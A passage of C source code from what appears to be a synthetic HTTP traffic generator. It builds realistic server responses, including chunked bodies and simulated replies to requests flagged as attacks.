		gen_sb_putc(b, '}');
		break;
	default:
		/* Attack endpoints that "succeed": a plausible report/list. */
		if (q->attack == GEN_ATK_APIKEY_URL) {
			GEN_SB_LIT(b, "{\"report\":\"monthly-sales\",\"rows\":[");
			for (int i = 0; i < 12; i++) {
				if (i)
					gen_sb_putc(b, ',');
				GEN_SB_LIT(b, "{\"month\":");
				gen_sb_u64(b, (uint64_t)i + 1);
				GEN_SB_LIT(b, ",\"orders\":");
				gen_sb_u64(b, gen_range(r, 100, 9000));
				GEN_SB_LIT(b, ",\"revenue\":");
				gen_sb_money(b, gen_range(r, 100000, 90000000));
				gen_sb_putc(b, '}');
			}
			GEN_SB_LIT(b, "]}");
		} else {
			GEN_SB_LIT(b, "{\"items\":[]}");
		}
		break;
	}
}

void gen_http_continue(struct gen_sb *b)
{
	GEN_SB_LIT(b, "HTTP/1.1 100 Continue\r\n\r\n");
}

void gen_http_response(struct gen_sb *b, struct gen_rng *r,
		       const struct gen_ident *id,
		       const struct gen_req_info *q, int chunked,
		       uint64_t ts_us, struct gen_resp_info *ri)
{
	struct gen_sb *body = &body_scratch;
	int status = q->attack != GEN_ATK_NONE ? attack_status(r, q)
					       : normal_status(r, q);
	if (q->is_head)
		status = 200;
	body->len = 0;
	switch (status) {
	case 200:
	case 201:
		put_success_body(body, r, id, q);
		break;
	case 400:
		put_error_body(body, "bad_request", "The request could not be validated", q);
		break;
	case 401:
		put_error_body(body, "invalid_token", "Missing or invalid credentials", q);
		break;
	case 403:
		put_error_body(body, "forbidden", "Access to this resource is denied", q);
		break;
	case 404:
		put_error_body(body, "not_found", "The requested resource was not found", q);
		break;
	default:
		break; /* 204, 304: no body */
	}
	int no_body = status == 204 || status == 304 || q->is_head;
	ri->status = status;
	ri->has_body = !no_body && body->len > 0;
	ri->chunked = ri->has_body && chunked;

	GEN_SB_LIT(b, "HTTP/1.1 ");
	gen_sb_u64(b, (uint64_t)status);
	gen_sb_putc(b, ' ');
	gen_sb_puts(b, reason(status));
	GEN_SB_LIT(b, "\r\nDate: ");
	put_http_date(b, ts_us);
	GEN_SB_LIT(b, "\r\nServer: nginx/1.24.0");
	if (status != 204 && status != 304) {
		GEN_SB_LIT(b, "\r\nContent-Type: application/json; charset=utf-8");
		if (ri->chunked) {
			GEN_SB_LIT(b, "\r\nTransfer-Encoding: chunked");
		} else {
			/* HEAD announces the length the GET would have had. */
			GEN_SB_LIT(b, "\r\nContent-Length: ");
			gen_sb_u64(b, body->len);
		}
	}
	if (q->conn_close)
		GEN_SB_LIT(b, "\r\nConnection: close");
	else
		GEN_SB_LIT(b, "\r\nConnection: keep-alive\r\nKeep-Alive: timeout=60");
	GEN_SB_LIT(b, "\r\nX-Request-Id: ");
	gen_sb_puts(b, q->request_id);
	if (status == 200 || status == 304) {
		GEN_SB_LIT(b, "\r\nETag: W/\"");
		gen_sb_randhex(b, r, 16);
		gen_sb_putc(b, '"');
	}
	if (status == 201) {
		GEN_SB_LIT(b, "\r\nLocation: /api/v1/orders/");
		gen_sb_u64(b, q->id2);
	}
	if (status == 401)
		GEN_SB_LIT(b, "\r\nWWW-Authenticate: Bearer realm=\"api\", error=\"invalid_token\"");
	GEN_SB_LIT(b, "\r\nCache-Control: private, no-cache\r\nVary: Accept-Encoding, Authorization"
		      "\r\nX-Content-Type-Options: nosniff\r\nX-RateLimit-Limit: 1000\r\nX-RateLimit-Remaining: ");
	gen_sb_u64(b, gen_below(r, 1000));
	GEN_SB_LIT(b, "\r\nStrict-Transport-Security: max-age=31536000; includeSubDomains\r\n\r\n");

	if (!ri->has_body)
		return;
	if (!ri->chunked) {
		gen_sb_put(b, body->p, body->len);
		return;
	}
	/* Several chunks at random cut points, like a streaming encoder. */
	size_t off = 0;
	unsigned left = gen_range(r, 2, 5);
	while (off < body->len) {
		size_t rest = body->len - off, n = rest;
		if (left > 1 && rest > 1)
			n = 1 + gen_below(r, (uint32_t)(2 * rest / left < rest ? 2 * rest / left : rest - 1));
		if (left > 1)
			left--;
		gen_sb_hex(b, n);
		GEN_SB_LIT(b, "\r\n");
		gen_sb_put(b, body->p + off, n);
		GEN_SB_LIT(b, "\r\n");
		off += n;
	}
	GEN_SB_LIT(b, "0\r\n\r\n");
}
